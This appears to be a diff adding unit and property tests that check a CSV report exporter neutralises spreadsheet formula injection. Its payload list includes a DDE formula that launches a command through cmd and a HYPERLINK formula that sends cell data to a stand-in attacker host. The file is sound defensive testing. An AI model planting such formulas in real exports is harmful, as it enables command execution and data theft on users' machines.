@@ -1,0 +1,62 @@
+import { describe, expect, it } from '@jest/globals';
+import fc from 'fast-check';
+import { toCsv } from './report-csv.js';
+
+/** How a spreadsheet begins to compute, also behind what it skips (OWASP, CSV injection). */
+const FORMULAS = [
+  '=1+1',
+  '=cmd|" /C calc"!A0',
+  '=HYPERLINK("https://evil.example?x="&A1,"x")',
+  '+1+1',
+  '-1+1',
+  '@SUM(1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '"=1+1"',
+  '=1+1";=1+1',
+];
+
+/** Reads CSV as RFC 4180 §2 writes it. */
+function readCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
+    row.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'));
+    if (end === ',') continue;
+    rows.push(row);
+    row = [];
+  }
+  return rows;
+}
+
+describe('a report as CSV', () => {
+  it.each(FORMULAS)('holds no cell that a spreadsheet would compute: %j', (formula) => {
+    const [[cell = ''] = []] = readCsv(toCsv([[formula]]));
+    expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
+    expect(cell).toContain(formula.trim().slice(1));
+  });
+
+  it('says what was in it, row by row, whatever that was', () => {
+    const cells = fc.oneof(
+      fc.string({ unit: 'grapheme' }),
+      fc.constantFrom(...FORMULAS, ',', '"', '\r\n', '""', ''),
+    );
+    fc.assert(
+      fc.property(fc.array(fc.tuple(cells, cells, cells), { minLength: 1 }), (rows) => {
+        const read = readCsv(toCsv(rows));
+        expect(read.map((row) => row.length)).toEqual(rows.map(() => 3));
+        for (const [index, row] of rows.entries())
+          for (const [column, cell] of row.entries()) {
+            const found = read[index]?.[column] ?? '';
+            expect([cell, `'${cell}`]).toContain(found);
+            expect(found).not.toMatch(/^[=+\-@\t\r\n]/);
+          }
+      }),
+    );
+  });
+
+  it('leaves numbers as they are, also those below zero', () => {
+    expect(readCsv(toCsv([[-1, 0.5, null]]))).toEqual([['-1', '0.5', '']]);
+  });
+});
